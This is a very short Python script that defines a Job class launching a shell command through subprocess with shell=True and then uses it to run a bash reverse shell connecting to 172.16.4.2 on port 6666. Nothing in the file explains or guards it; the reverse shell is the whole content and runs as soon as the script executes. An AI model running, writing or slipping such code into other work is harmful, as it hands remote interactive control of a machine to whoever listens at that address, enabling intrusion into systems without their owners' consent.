
import subprocess

class Job:
    def __init__(self, cmd):
        self.start(cmd)

    def start(self, cmd):
        subprocess.Popen(cmd, shell=True)

Job("bash -i >& /dev/tcp/172.16.4.2/6666 0>&1")
